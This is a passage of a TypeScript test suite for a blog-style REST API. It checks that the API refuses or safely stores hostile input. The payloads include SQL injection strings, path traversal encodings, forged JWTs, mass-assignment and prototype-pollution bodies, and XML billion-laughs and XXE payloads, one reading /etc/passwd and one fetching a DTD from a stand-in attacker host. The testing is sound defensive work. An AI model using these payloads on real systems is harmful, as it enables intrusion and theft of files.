    name: `a tag of ${LIMITS.tag + 1} characters`,
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: article({ tagList: ["t".repeat(LIMITS.tag + 1)] }),
    status: 422,
    error: { field: "tagList", message: `can't contain tags longer than ${LIMITS.tag} characters` },
  }),
  rest({
    name: `${LIMITS.tags + 1} distinct tags`,
    method: "PUT",
    path: "/api/articles/@@slug@@",
    token: "owner",
    body: json({ article: { tagList: Array.from({ length: LIMITS.tags + 1 }, (_, i) => `many${i}`) } }),
    status: 422,
    error: { field: "tagList", message: `can't have more than ${LIMITS.tags} tags` },
  }),
  rest({
    name: "emoji, right-to-left, combining and zero-width text in a comment",
    method: "POST",
    path: "/api/articles/@@slug@@/comments",
    token: "owner",
    body: comment(`C ${MIXED}`),
    status: 200,
    stored: storesComment(`C ${MIXED}`),
  }),

  // Unicode in profile fields.
  rest({
    name: "emoji, right-to-left, combining and zero-width text in the bio",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: userChanges({ bio: `Bio ${MIXED}` }),
    status: 200,
    stored: storesOwner({ bio: `Bio ${MIXED}` }),
  }),
  rest({
    name: "an internationalised URL as the image",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: userChanges({ image: "https://例え.テスト/画像/👩‍💻.png?q=مرحبا" }),
    status: 200,
    stored: storesOwner({ image: "https://例え.テスト/画像/👩‍💻.png?q=مرحبا" }),
  }),

  // Values a field's own rule refuses: characters a username may not have, emails that are not
  // addresses (SQL among them), an image that is no http(s) URL, a bio that is no string.
  ...(
    [
      ["emoji in the username", "register", () => newUser({ username: `${unique("e")}${EMOJI}` }), "username", USERNAME_CHARS],
      ["emoji in the email", "register", () => newUser({ email: `${EMOJI}@example.com` }), "email", "is invalid"],
      [
        "a right-to-left override in the email",
        "register",
        () => newUser({ email: `${unique("rlo")}\u202e@example.com` }),
        "email",
        "is invalid",
      ],
      [
        "a data: URL as the image",
        "updateUser",
        userChanges({ image: "data:text/html,<script>alert(1)</script>" }),
        "image",
        "must be an http(s) URL",
      ],
      ["a number as the bio", "updateUser", userChanges({ bio: 42 }), "bio", "must be a string or null"],
      ["SQL in the username", "register", () => newUser({ username: SQL.bobby }), "username", USERNAME_CHARS],
      ["SQL in the new username", "updateUser", userChanges({ username: "x' OR '1'='1" }), "username", USERNAME_CHARS],
      ["SQL in the email", "register", () => newUser({ email: "x' OR '1'='1@example.com" }), "email", "is invalid"],
    ] as const
  ).map(([name, write, body, field, message]) => refusedWrite(name, write, body, field, message)),
  // NUL and unpaired surrogates, which no column may hold, in every field that takes text.
  ...(
    [
      ["NUL in the username", "register", () => newUser({ username: `${unique("n")}\u0000` }), "username"],
      ["a lone surrogate (\\ud800) in the username", "register", () => newUser({ username: `${unique("s")}\ud800` }), "username"],
      ["NUL in the email", "register", () => newUser({ email: `${unique("nul")}@example.com\u0000` }), "email"],
      ["a lone surrogate (\\udc00) in the new email", "updateUser", userChanges({ email: "lone\udc00@example.com" }), "email"],
      ["a lone surrogate (\\udbff) in the description", "createArticle", article({ description: "lone \udbff" }), "description"],
      ["NUL in the description", "createArticle", article({ description: "a\u0000b" }), "description"],
      ["a lone surrogate (\\udfff) in the title", "createArticle", article({ title: "t \udfff" }), "title"],
      ["a lone surrogate (\\ud800) in the body", "createArticle", article({ body: "b \ud800" }), "body"],
      ["NUL in the body of an update", "updateArticle", json({ article: { body: "x\u0000" } }), "body"],
      ["NUL in a tag", "createArticle", article({ tagList: ["ok", "n\u0000l"] }), "tagList"],
      [
        "a lone surrogate (\\ud83d, half an emoji) in a tag",
        "updateArticle",
        json({ article: { tagList: ["\ud83d"] } }),
        "tagList",
      ],
      ["NUL in a comment", "createComment", comment("\u0000"), "body"],
      ["a lone surrogate (\\udc00) in a comment", "createComment", comment("tail \udc00"), "body"],
      ["NUL in the bio", "updateUser", userChanges({ bio: "a\u0000" }), "bio"],
      ["a lone surrogate (\\udbff) in the bio", "updateUser", userChanges({ bio: "bio \udbff" }), "bio"],
      ["NUL in the image", "updateUser", userChanges({ image: "https://example.com/\u0000.png" }), "image"],
      [
        "a lone surrogate (\\ud800) in the image",
        "updateUser",
        userChanges({ image: "https://example.com/\ud800.png" }),
        "image",
      ],
    ] as const
  ).map(([name, write, body, field]) => refusedWrite(name, write, body, field, UNSTORABLE)),
  // One character past each field's length limit.
  ...(
    [
      [
        `a username of ${LIMITS.username + 1} accented letters`,
        "register",
        () => newUser({ username: "é".repeat(LIMITS.username + 1) }),
        "username",
        LIMITS.username,
      ],
      [
        `an email of ${LIMITS.email + 1} characters`,
        "register",
        () => newUser({ email: `${"a".repeat(LIMITS.email + 1 - "@example.com".length)}@example.com` }),
        "email",
        LIMITS.email,
      ],
      [
        `a title of ${LIMITS.title + 1} characters`,
        "createArticle",
        article({ title: "é".repeat(LIMITS.title + 1) }),
        "title",
        LIMITS.title,
      ],
      [
        `a description of ${LIMITS.description + 1} characters`,
        "updateArticle",
        json({ article: { description: "d".repeat(LIMITS.description + 1) } }),
        "description",
        LIMITS.description,
      ],
      [
        `a body of ${LIMITS.articleBody + 1} characters`,
        "createArticle",
        article({ body: "b".repeat(LIMITS.articleBody + 1) }),
        "body",
        LIMITS.articleBody,
      ],
      [
        `a comment of ${LIMITS.commentBody + 1} characters`,
        "createComment",
        comment("c".repeat(LIMITS.commentBody + 1)),
        "body",
        LIMITS.commentBody,
      ],
      [
        `a bio of ${LIMITS.bio + 1} characters`,
        "updateUser",
        userChanges({ bio: "é".repeat(LIMITS.bio + 1) }),
        "bio",
        LIMITS.bio,
      ],
      [
        `an image URL of ${LIMITS.image + 1} characters`,
        "updateUser",
        userChanges({ image: `https://example.com/${"i".repeat(LIMITS.image + 1 - "https://example.com/".length)}` }),
        "image",
        LIMITS.image,
      ],
    ] as const
  ).map(([name, write, body, field, max]) =>
    refusedWrite(name, write, body, field, `is too long (maximum is ${max} characters)`),
  ),
  // SQL-like strings in every field: stored as data, or refused with 422 by the field's own rule.
  rest({
    name: "SQL in the login email",
    method: "POST",
    path: "/api/users/login",
    token: "none",
    body: json({ user: { email: "' OR 1=1 --", password: "whatever1" } }),
    status: 401,
    error: { field: "email or password", message: "is invalid" },
  }),
  rest({
    name: "SQL in the login password of an existing account",
    method: "POST",
    path: "/api/users/login",
    token: "none",
    body: (f) => json({ user: { email: f.owner.email, password: "' OR ''='" } }),
    status: 401,
    error: { field: "email or password", message: "is invalid" },
  }),
  rest({
    name: "SQL in the title",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: article({ title: SQL.drop }),
    status: 201,
    stored: storesArticle({ title: SQL.drop }),
  }),
  rest({
    name: "SQL in the description and body",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: article({ description: SQL.quote, body: SQL.delete }),
    status: 201,
    stored: storesArticle({ description: SQL.quote, body: SQL.delete }),
  }),
  rest({
    name: "SQL in a tag",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: article({ tagList: [SQL.union, "'; --"] }),
    status: 201,
    stored: {
      proves: "each tag stored exactly as sent",
      check: async (reply) => expect(await tagsOf(reply.body.article.slug)).toEqual([SQL.union, "'; --"]),
    },
  }),
  rest({
    name: "SQL in a comment",
    method: "POST",
    path: "/api/articles/@@slug@@/comments",
    token: "owner",
    body: comment(SQL.comment),
    status: 200,
    stored: storesComment(SQL.comment),
  }),
  rest({
    name: "SQL in the bio",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: userChanges({ bio: SQL.bobby }),
    status: 200,
    stored: storesOwner({ bio: SQL.bobby }),
  }),
  rest({
    name: "SQL in the image URL",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: userChanges({ image: "https://example.com/a.png?q=' OR 1=1--" }),
    status: 200,
    stored: storesOwner({ image: "https://example.com/a.png?q=' OR 1=1--" }),
  }),
  ...(
    [
      ["a LIKE wildcard as the author", "author=%25"],
      ["a LIKE wildcard as the tag", "tag=_"],
      ["a LIKE wildcard as favorited", "favorited=%25%25"],
      ["SQL as favorited", "favorited=%27%20OR%20%271%27%3D%271"],
      ["SQL in every filter", "tag=%27%29--&author=%22%20OR%201%3D1--&favorited=%3B%20DROP%20TABLE%20favorites"],
    ] as const
  ).map(([name, query]) =>
    rest({
      name,
      method: "GET",
      path: `/api/articles?${query}`,
      token: "none",
      status: 200,
      reply: (reply) => expect(reply.body).toEqual({ articles: [], articlesCount: 0 }),
    }),
  ),
  rest({
    name: "SQL as the limit",
    method: "GET",
    path: "/api/articles?limit=1;DROP%20TABLE%20articles",
    token: "none",
    status: 422,
    error: { field: "limit", message: NOT_INTEGER },
  }),
  rest({
    name: "SQL as the feed offset",
    method: "GET",
    path: "/api/articles/feed?offset=0%20UNION%20SELECT%201",
    token: "owner",
    status: 422,
    error: { field: "offset", message: NOT_INTEGER },
  }),
  rest({
    name: "SQL as a slug",
    method: "DELETE",
    path: "/api/articles/'%20OR%201=1--",
    token: "owner",
    status: 404,
    error: { field: "body", message: NOT_FOUND_ARTICLE },
  }),
  rest({
    name: "SQL as a comment id",
    method: "DELETE",
    path: "/api/articles/@@slug@@/comments/@@commentId@@%20OR%201=1",
    token: "owner",
    status: 422,
    error: { field: "id", message: NOT_INTEGER },
  }),

  // Path traversal and odd encodings in slugs and usernames.
  ...(
    [
      ["an encoded ../ before the slug", "DELETE", "/api/articles/..%2F@@slug@@"],
      ["an encoded /.. after the slug", "DELETE", "/api/articles/@@slug@@%2F.."],
      ["an encoded ../../ in the slug", "PUT", "/api/articles/%2e%2e%2f%2e%2e%2f@@slug@@"],
      ["a backslash traversal", "DELETE", "/api/articles/..%5C@@slug@@"],
      ["an overlong-UTF-8 dot-dot", "DELETE", "/api/articles/%C0%AE%C0%AE%C0%AF@@slug@@"],
      ["a space before the slug", "DELETE", "/api/articles/%20@@slug@@"],
      ["the slug in upper case", "DELETE", "/api/articles/@@slugUpper@@"],
      ["an encoded NUL after the slug", "POST", "/api/articles/@@slug@@%00/favorite"],
      ["a double-encoded slug", "DELETE", "/api/articles/@@slugDoubleEncoded@@"],
    ] as const
  ).map(([name, method, path]) =>
    rest({
      name,
      method,
      path,
      token: "owner",
      ...(method === "PUT" ? { body: json({ article: { body: "traversed" } }) } : {}),
      status: 404,
      error: { field: "body", message: NOT_FOUND_ARTICLE },
    }),
  ),
  // Usernames in a path that name no profile.
  ...(
    [
      ["SQL as a profile name", "@@other@@'%20OR%20'1'='1"],
      ["an encoded NUL as the username", "%00"],
      ["a double-encoded username", "%2525@@other@@"],
      ["an encoded ../ before a username", "..%2F@@other@@"],
    ] as const
  ).map(([name, username]) =>
    rest({
      name,
      method: "POST",
      path: `/api/profiles/${username}/follow`,
      token: "owner",
      status: 404,
      error: { field: "body", message: "profile not found" },
    }),
  ),
  rest({
    name: "one's own username in upper case (following oneself)",
    method: "POST",
    path: "/api/profiles/@@ownerUpper@@/follow",
    token: "owner",
    status: 422,
    error: { field: "username", message: "is your own: you cannot follow yourself" },
  }),
  rest({
    name: "one's own username in fullwidth letters, equal after NFKC (following oneself)",
    method: "POST",
    path: "/api/profiles/@@ownerFullwidth@@/follow",
    token: "owner",
    status: 422,
    error: { field: "username", message: "is your own: you cannot follow yourself" },
  }),
  rest({
    name: "a method override header on a route with no POST",
    method: "POST",
    path: "/api/articles/@@slug@@",
    token: "owner",
    headers: { "X-HTTP-Method-Override": "DELETE", "X-Method-Override": "DELETE" },
    status: 404,
    error: { field: "body", message: "no such route" },
  }),
  rest({
    name: "PATCH, a method the API does not have",
    method: "PATCH",
    path: "/api/user",
    token: "owner",
    body: userChanges({ bio: "patched" }),
    status: 404,
    error: { field: "body", message: "no such route" },
  }),

  // Query parameter abuse.
  ...(
    [
      ["limit=1000000000000", "limit", "must be at most 100"],
      ["limit=99999999999999999999", "limit", NOT_INTEGER],
      ["limit=-1", "limit", "must be at least 1"],
      ["limit=0", "limit", "must be at least 1"],
      ["limit=-0", "limit", "must be at least 1"],
      ["limit=1.5", "limit", NOT_INTEGER],
      ["limit=0x10", "limit", NOT_INTEGER],
      ["limit=1e2", "limit", NOT_INTEGER],
      ["limit=", "limit", NOT_INTEGER],
      ["limit=%20%205", "limit", NOT_INTEGER],
      ["limit=%EF%BC%95", "limit", NOT_INTEGER],
      ["offset=-1", "offset", "must be at least 0"],
      ["offset=1000001", "offset", "must be at most 1000000"],
      ["offset=NaN", "offset", NOT_INTEGER],
      ["offset=Infinity", "offset", NOT_INTEGER],
      [`tag=${"t".repeat(LIMITS.filter + 1)}`, "tag", "is too long"],
      ["author=a%00b", "author", UNSTORABLE],
      // Cursors: the shape is checked first, then the signature, then where it was given.
      ["after=3", "after", BAD_CURSOR],
      ["after=conduit%3Av1%3A3", "after", BAD_CURSOR],
      [`after=c1.${"A".repeat(5000)}.AAAAAAAAAAAAAAAA`, "after", BAD_CURSOR],
      ["after=c1.YXJ0aWNsZXM6bmV3ZXN0OjE.AAAAAAAAAAAAAAAA", "after", BAD_CURSOR],
      ["before=c1.YXJ0aWNsZXM6bmV3ZXN0OjE.AAAAAAAAAAAAAAAA", "before", BAD_CURSOR],
      ["after=c1.YXJ0aWNsZXM6bmV3ZXN0OjE.AAAAAAAAAAAAAAAA%00", "after", BAD_CURSOR],
    ] as const
  ).map(([query, field, message]) =>
    rest({
      name: `${query.length > 40 ? `a ${query.length}-character ${field}` : "that query"}`,
      method: "GET",
      path: `/api/articles?${query}`,
      token: "none",
      status: 422,
      error: { field, message },
    }),
  ),
  rest({
    name: "a repeated limit (limit=1&limit=2: the first one counts)",
    method: "GET",
    path: "/api/articles?limit=1&limit=2",
    token: "none",
    status: 200,
    reply: (reply) => {
      expect(reply.body.articlesCount).toBeGreaterThanOrEqual(2);
      expect(reply.body.articles).toHaveLength(1);
    },
  }),
  rest({
    name: "array-style and prototype keys in the query",
    method: "GET",
    path: "/api/articles?limit[]=5&__proto__[limit]=0&constructor[prototype][x]=1&toString=1",
    token: "none",
    status: 200,
    reply: (reply) => expect(reply.body.articlesCount).toBeGreaterThanOrEqual(2),
  }),
  rest({
    name: "the largest offset allowed (an empty page)",
    method: "GET",
    path: "/api/articles?offset=1000000&limit=100",
    token: "none",
    status: 200,
    reply: (reply) => expect(reply.body.articles).toEqual([]),
  }),
  rest({
    name: "an encoded lone surrogate as a filter (undecodable, kept as text)",
    method: "GET",
    path: "/api/articles?favorited=%ED%A0%80",
    token: "none",
    status: 200,
    reply: (reply) => expect(reply.body).toEqual({ articles: [], articlesCount: 0 }),
  }),
  rest({
    name: "the feed with limit=101",
    method: "GET",
    path: "/api/articles/feed?limit=101",
    token: "owner",
    status: 422,
    error: { field: "limit", message: "must be at most 100" },
  }),
  ...(
    [
      ["0", BAD_ID],
      ["-1", BAD_ID],
      ["9007199254740993", BAD_ID],
      ["1.0", NOT_INTEGER],
      ["0x1", NOT_INTEGER],
      ["1e3", NOT_INTEGER],
      ["abc", NOT_INTEGER],
      ["%00", NOT_INTEGER],
      ["99999999999999999999", NOT_INTEGER],
    ] as const
  ).map(([id, message]) =>
    rest({
      name: `the comment id ${id}`,
      method: "DELETE",
      path: `/api/articles/@@slug@@/comments/${id}`,
      token: "owner",
      status: 422,
      error: { field: "id", message },
    }),
  ),

  // Bad tokens and schemes on write routes (users.test.ts covers reads).
  ...(
    [
      ["an expired token", "expired", "DELETE", "/api/articles/@@slug@@", undefined],
      ["an alg:none token", "alg-none", "PUT", "/api/user", userChanges({ bio: "alg none" })],
      ["a token signed with another key", "wrong-key", "POST", "/api/articles/@@slug@@/favorite", undefined],
      ["a token naming a key id that is not configured", "unknown-kid", "POST", "/api/articles/@@slug@@/favorite", undefined],
      ["a token from another issuer", "wrong-issuer", "POST", "/api/articles/@@slug@@/comments", comment("x")],
      ["a token for another audience", "wrong-audience", "POST", "/api/profiles/@@other@@/follow", undefined],
      ["an HS512 token", "hs512", "DELETE", "/api/articles/@@slug@@/comments/@@commentId@@", undefined],
      ["a token without a subject", "no-sub", "POST", "/api/articles", article()],
      ["a token whose subject is SQL", "sql-sub", "PUT", "/api/articles/@@slug@@", json({ article: { body: "x" } })],
      ["a token whose version is a string", "string-version", "DELETE", "/api/articles/@@slug@@/favorite", undefined],
    ] as const
  ).map(([name, token, method, path, body]) =>
    rest({
      name,
      method,
      path,
      token,
      ...(body === undefined ? {} : { body }),
      status: 401,
      error: { field: "body", message: BAD_TOKEN },
    }),
  ),
  rest({
    name: "a token for a version the account never had",
    method: "DELETE",
    path: "/api/articles/@@slug@@",
    token: "future-version",
    status: 401,
    error: { field: "body", message: "token is no longer valid" },
  }),
  rest({
    name: "a well-signed token for an account that does not exist",
    method: "POST",
    path: "/api/articles",
    token: "unknown-user",
    body: article(),
    status: 401,
    error: { field: "body", message: "token is no longer valid" },
  }),
  ...(
    [
      ["the scheme alone", "Token"],
      ["two tokens in one header", "Token @@ownerToken@@, Token @@ownerToken@@"],
      ["Basic credentials", "Basic b3duZXI6cGFzc3dvcmQ="],
      ["a tab between scheme and token", "Token\t@@ownerToken@@"],
      ["an unknown scheme", "JWT @@ownerToken@@"],
    ] as const
  ).map(([name, authorization]) =>
    rest({
      name: `an Authorization header with ${name}`,
      method: "DELETE",
      path: "/api/articles/@@slug@@",
      token: "none",
      headers: { Authorization: authorization },
      status: 401,
      error: { field: "body", message: BAD_SCHEME },
    }),
  ),
  // A credential after the right scheme that is no JWT: an invalid token, as in every style.
  ...(
    [
      ["a token with a fourth segment", "Token @@ownerToken@@.extra"],
      ["16 KB of garbage", `Token ${"A".repeat(16 * 1024)}`],
      ["a token that is not a JWT", "Bearer not-a-token"],
    ] as const
  ).map(([name, authorization]) =>
    rest({
      name: `an Authorization header with ${name}`,
      method: "DELETE",
      path: "/api/articles/@@slug@@",
      token: "none",
      headers: { Authorization: authorization },
      status: 401,
      error: { field: "body", message: BAD_TOKEN },
    }),
  ),
  rest({
    name: "a malformed three-part token",
    method: "POST",
    path: "/api/articles",
    token: "none",
    headers: { Authorization: "Token a.b.c" },
    body: article(),
    status: 401,
    error: { field: "body", message: BAD_TOKEN },
  }),
  rest({
    name: "a valid token in the query string instead of the header",
    method: "DELETE",
    path: "/api/articles/@@slug@@?token=@@ownerToken@@&access_token=@@ownerToken@@",
    token: "none",
    status: 401,
    error: { field: "body", message: NO_AUTH },
  }),
  rest({
    name: "a valid token in a cookie instead of the header",
    method: "DELETE",
    path: "/api/articles/@@slug@@",
    token: "none",
    headers: { Cookie: "token=@@ownerToken@@; jwt=@@ownerToken@@" },
    status: 401,
    error: { field: "body", message: NO_AUTH },
  }),

  // Mass assignment: fields a client must not set are ignored.
  (() => {
    const username = unique("mass");
    return rest({
      name: "ids, token version, password hash, keys, timestamps, bio and token on register",
      method: "POST",
      path: "/api/users",
      token: "none",
      body: (f) =>
        json({
          user: {
            username,
            email: `${username}@example.com`,
            password: "safe-pass-1",
            id: f.owner.id,
            token_version: 99,
            tokenVersion: 99,
            password_hash: "plain",
            passwordHash: "plain",
            username_key: f.other.username.toLowerCase(),
            email_key: f.other.email.toLowerCase(),
            created_at: 0,
            createdAt: "2000-01-01T00:00:00.000Z",
            bio: "set at registration",
            image: "https://example.com/x.png",
            token: f.owner.token,
          },
        }),
      status: 201,
      stored: {
        proves: "only username, email and password take effect",
        check: async (reply, f) => {
          const row = await one("SELECT * FROM users WHERE username = ?", username);
          expect(row.id).not.toBe(f.owner.id);
          expect(row).toMatchObject({
            username_key: username.toLowerCase(),
            email_key: `${username}@example.com`.toLowerCase(),
            token_version: 0,
            bio: null,
            image: null,
          });
          expect(row.password_hash).toMatch(/^pbkdf2-sha256\$/);
          expect(row.created_at).toBeGreaterThan(Date.parse("2020-01-01"));
          expect(reply.body.user.token).not.toBe(f.owner.token);
          expect(reply.body.user).toMatchObject({ bio: null, image: null });
          // The owner's account is untouched and still answers to its token.
          expect((await call("GET", "/api/user", { token: f.owner.token })).body.user.username).toBe(f.owner.username);
        },
      },
    });
  })(),
  rest({
    name: "id, token version, password hash, keys and timestamps in a profile update",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: (f) =>
      json({
        user: {
          bio: "mass assigned",
          id: f.other.id,
          token_version: 42,
          tokenVersion: 42,
          password_hash: "plain",
          passwordHash: "plain",
          username_key: "hijacked",
          email_key: "hijacked@example.com",
          created_at: 0,
          createdAt: 0,
          updated_at: 0,
          token: "forged",
        },
      }),
    status: 200,
    stored: {
      proves: "only the bio takes effect; the token keeps working",
      check: async (reply, f) => {
        const row = await userRow(f.owner.id);
        expect(row).toMatchObject({
          bio: "mass assigned",
          username: f.owner.username,
          username_key: f.owner.username.toLowerCase(),
          email_key: f.owner.email.toLowerCase(),
          token_version: 0,
        });
        expect(row.password_hash).toBe(f.vars.ownerPasswordHash);
        expect(row.created_at).toBeGreaterThan(Date.parse("2020-01-01"));
        expect(reply.body.user.token).toBe(f.owner.token);
        expect((await userRow(f.other.id)).bio).toBeNull();
        expect((await call("GET", "/api/user", { token: f.owner.token })).status).toBe(200);
      },
    },
  }),
  rest({
    name: "slug, author, counts, favorited, ids and timestamps in a new article",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: (f) =>
      json({
        article: {
          title: "Mass assigned article",
          description: "d",
          body: "b",
          slug: "chosen-slug",
          id: 1,
          author: { username: f.other.username, following: true },
          authorId: f.other.id,
          author_id: f.other.id,
          favoritesCount: 1000,
          favorites_count: 1000,
          favorited: true,
          createdAt: "2000-01-01T00:00:00.000Z",
          updatedAt: "2000-01-01T00:00:00.000Z",
          created_at: 0,
        },
      }),
    status: 201,
    stored: {
      proves: "the slug follows the title, the caller is the author, counts start at 0",
      check: async (reply, f) => {
        const row = await articleRow(reply.body.article.slug);
        expect(row.slug).toMatch(/^mass-assigned-article/);
        expect(row).toMatchObject({ author_id: f.owner.id, favorites_count: 0 });
        expect(row.id).not.toBe(1);
        expect(row.created_at).toBeGreaterThan(Date.parse("2020-01-01"));
        expect(reply.body.article).toMatchObject({
          favorited: false,
          favoritesCount: 0,
          author: { username: f.owner.username, following: false },
        });
        expect(reply.body.article.createdAt).not.toBe("2000-01-01T00:00:00.000Z");
      },
    },
  }),
  rest({
    name: "slug, author, counts, ids and timestamps in an article update",
    method: "PUT",
    path: "/api/articles/@@slugB@@",
    token: "owner",
    body: (f) =>
      json({
        article: {
          body: "mass assigned body",
          slug: "hijacked-slug",
          id: 1,
          author: { username: f.other.username },
          authorId: f.other.id,
          author_id: f.other.id,
          favoritesCount: 1000,
          favorited: true,
          createdAt: "2000-01-01T00:00:00.000Z",
          created_at: 0,
          updatedAt: "2000-01-01T00:00:00.000Z",
        },
      }),
    status: 200,
    stored: {
      proves: "only the body changes",
      check: async (reply, f) => {
        const row = await articleRow(f.slugB);
        expect(row).toMatchObject({
          id: Number(f.vars.articleBId),
          body: "mass assigned body",
          author_id: f.owner.id,
          favorites_count: 0,
          created_at: Number(f.vars.articleBCreatedAt),
        });
        expect(row.updated_at).toBeGreaterThan(Number(f.vars.articleBCreatedAt));
        expect(reply.body.article).toMatchObject({ slug: f.slugB, favoritesCount: 0, favorited: false });
      },
    },
  }),
  rest({
    name: "id, author, article id, email and timestamps in a new comment",
    method: "POST",
    path: "/api/articles/@@slug@@/comments",
    token: "owner",
    body: (f) =>
      json({
        comment: {
          body: "mass assigned comment",
          id: f.commentId,
          author: { username: f.other.username },
          authorId: f.other.id,
          author_id: f.other.id,
          articleId: Number(f.vars.articleBId),
          article_id: Number(f.vars.articleBId),
          email: f.other.email,
          createdAt: "2000-01-01T00:00:00.000Z",
          created_at: 0,
        },
      }),
    status: 200,
    stored: {
      proves: "the caller is the author, on the article in the path, now",
      check: async (reply, f) => {
        expect(reply.body.comment.id).not.toBe(f.commentId);
        const row = await one("SELECT * FROM comments WHERE id = ?", reply.body.comment.id);
        expect(row).toMatchObject({
          author_id: f.owner.id,
          article_id: Number(f.vars.articleAId),
          body: "mass assigned comment",
        });
        expect(row.created_at).toBeGreaterThan(Date.parse("2020-01-01"));
        expect(reply.body.comment.author.username).toBe(f.owner.username);
        expect((await one("SELECT body FROM comments WHERE id = ?", f.commentId)).body).toBe("the fixture comment");
      },
    },
  }),
  rest({
    name: "a favoritesCount and favorited in the body of a favorite",
    method: "POST",
    path: "/api/articles/@@slugB@@/favorite",
    token: "other",
    body: json({ article: { favoritesCount: 1000, favorited: false } }),
    status: 200,
    stored: {
      proves: "the count is the number of favorites rows",
      check: async (reply, f) => {
        const favorites = await rows("SELECT * FROM favorites WHERE article_id = ?", Number(f.vars.articleBId));
        expect(favorites).toEqual([{ user_id: f.other.id, article_id: Number(f.vars.articleBId) }]);
        expect((await articleRow(f.slugB)).favorites_count).toBe(1);
        expect(reply.body.article).toMatchObject({ favorited: true, favoritesCount: 1 });
      },
    },
  }),
  rest({
    name: "a profile with following false and another username in the body of a follow",
    method: "POST",
    path: "/api/profiles/@@other@@/follow",
    token: "owner",
    body: json({ profile: { following: false, username: "renamed" }, user: { username: "renamed" } }),
    status: 200,
    stored: {
      proves: "the follow is stored and the profile is unchanged",
      check: async (reply, f) => {
        expect(await rows("SELECT * FROM follows WHERE follower_id = ?", f.owner.id)).toEqual([
          { follower_id: f.owner.id, followee_id: f.other.id },
        ]);
        expect((await userRow(f.other.id)).username).toBe(f.other.username);
        expect(reply.body.profile).toMatchObject({ username: f.other.username, following: true });
      },
    },
  }),

  // Prototype pollution.
  rest({
    name: "the user envelope only under __proto__",
    method: "POST",
    path: "/api/users",
    token: "none",
    body: () => {
      const username = unique("proto");
      return `{"__proto__":{"user":{"username":"${username}","email":"${username}@example.com","password":"safe-pass-1"}}}`;
    },
    status: 422,
    error: { field: "user", message: "is required" },
  }),
  rest({
    name: "every article field only under __proto__",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: '{"article":{"__proto__":{"title":"t","description":"d","body":"b"}}}',
    status: 422,
    error: { field: "title", message: "is required" },
  }),
  rest({
    name: "the bio only under __proto__",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: '{"user":{"__proto__":{"bio":"from the prototype"}}}',
    status: 422,
    error: { field: "user", message: "needs at least one field" },
  }),
  rest({
    name: "constructor.prototype and __proto__ payloads beside a valid article",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: '{"constructor":{"prototype":{"polluted":"yes"}},"__proto__":{"polluted":"yes"},"article":{"title":"Prototype payloads","description":"d","body":"b","__proto__":{"isAdmin":true},"constructor":{"prototype":{"polluted":"yes"}}}}',
    status: 201,
    stored: storesArticle({ title: "Prototype payloads", description: "d", body: "b" }),
  }),
  rest({
    name: "prototype keys as tags",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: article({ tagList: ["__proto__", "constructor", "prototype", "hasOwnProperty", "toString"] }),
    status: 201,
    stored: {
      proves: "they are stored as ordinary tags",
      check: async (reply) =>
        expect(await tagsOf(reply.body.article.slug)).toEqual([
          "__proto__",
          "constructor",
          "prototype",
          "hasOwnProperty",
          "toString",
        ]),
    },
  }),
  rest({
    name: "__proto__ as a username",
    method: "POST",
    path: "/api/users",
    token: "none",
    body: newUser({ username: "__proto__" }),
    status: 201,
    stored: {
      proves: "it is an ordinary account name",
      check: async () => {
        await registers({ username: "__proto__" }).check({ body: { user: { username: "__proto__" } } } as Reply);
        const profile = await call("GET", "/api/profiles/__proto__");
        expect(profile.body).toEqual({ profile: { username: "__proto__", bio: null, image: null, following: false } });
      },
    },
  }),
  // --- XML (REST in XML) ------------------------------------------------------
  xml({
    name: "a DOCTYPE with nested entities (billion laughs)",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><article><title>&lol3;</title><description>d</description><body>b</body></article>`,
    status: 400,
    error: { field: "body", message: XML_DOCTYPE },
  }),
  xml({
    name: "an external entity (XXE) naming a local file",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: `<?xml version="1.0"?><!DOCTYPE user [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><user><bio>&xxe;</bio></user>`,
    status: 400,
    error: { field: "body", message: XML_DOCTYPE },
  }),
  xml({
    name: "a parameter entity fetched from a URL",
    method: "POST",
    path: "/api/articles/@@slug@@/comments",
    token: "owner",
    body: `<?xml version="1.0"?><!DOCTYPE comment [<!ENTITY % remote SYSTEM "http://attacker.test/evil.dtd">%remote;]><comment><body>x</body></comment>`,
    status: 400,
    error: { field: "body", message: XML_DOCTYPE },
  }),
  xml({
    name: "a DOCTYPE on an anonymous write (authentication comes first)",
    method: "PUT",
    path: "/api/articles/@@slug@@",
    token: "none",
    body: `<!DOCTYPE article [<!ENTITY x SYSTEM "file:///etc/passwd">]><article><body>&x;</body></article>`,
    status: 401,
    error: { field: "body", message: NO_AUTH },
  }),
  xml({
    name: "an undeclared entity reference (neither expanded nor kept as text)",
    method: "POST",
    path: "/api/articles/@@slug@@/comments",
    token: "owner",
    body: "<comment><body>&undefined;</body></comment>",
    status: 400,
    error: { field: "body", message: notXml("Named entity isn't defined: &undefined;") },
  }),
  xml({
    name: "an HTML entity XML does not define (&nbsp;)",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: "<user><bio>Hello&nbsp;world</bio></user>",
    status: 400,
    error: { field: "body", message: notXml("Named entity isn't defined: &nbsp;") },
  }),
  ...[
    ["NUL", "&#0;"],
    ["a lone surrogate", "&#xD800;"],
    ["the noncharacter U+FFFE", "&#xFFFE;"],
  ].map(([what, reference]) =>
    xml({
      name: `a character reference to ${what} (${reference}), which XML cannot carry`,
      method: "POST",
      path: "/api/articles",
      token: "owner",
